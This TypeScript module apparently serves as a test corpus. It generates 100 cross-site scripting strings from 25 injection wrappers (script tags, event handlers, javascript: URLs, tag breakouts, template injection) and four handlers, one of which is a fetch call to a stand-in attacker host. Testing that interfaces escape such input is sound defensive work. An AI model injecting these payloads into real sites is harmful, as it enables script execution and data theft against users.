const HANDLERS = ['alert(1)', 'window.wasHit=1', 'fetch(`//evil.example`)', 'print()'];
const TAGS: readonly ((code: string) => string)[] = [
  (code) => `<script>${code}</script>`,
  (code) => `"><script>${code}</script>`,
  (code) => `<img src=x onerror=${code}>`,
  (code) => `'"><img src=x onerror="${code}">`,
  (code) => `<svg onload=${code}>`,
  (code) => `<svg><animate onbegin=${code} attributeName=x dur=1s>`,
  (code) => `<iframe srcdoc="<script>${code}</script>">`,
  (code) => `<body onload=${code}>`,
  (code) => `<details open ontoggle=${code}>`,
  (code) => `<input autofocus onfocus=${code}>`,
  (code) => `<a href="javascript:${code}">x</a>`,
  (code) => `javascript:${code}`,
  (code) => `JaVaScRiPt:${code}//`,
  (code) => `data:text/html,<script>${code}</script>`,
  (code) => `</title><script>${code}</script>`,
  (code) => `</style><script>${code}</script>`,
  (code) => `</textarea><script>${code}</script>`,
  (code) => `--><script>${code}</script>`,
  (code) => `{{constructor.constructor('${code}')()}}`,
  (code) => `\${${code}}`,
  (code) => `<math><mtext></p><img src onerror=${code}>`,
  (code) => `<style>@import 'javascript:${code}'</style>`,
  (code) => `<link rel=stylesheet href=javascript:${code}>`,
  (code) => `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
  (code) => `<object data=javascript:${code}>`,
];

/** 100 texts that would run, call home or load something if any screen took text for code. */
export const HOSTILE_TEXTS: readonly string[] = TAGS.flatMap((tag) => HANDLERS.map(tag));
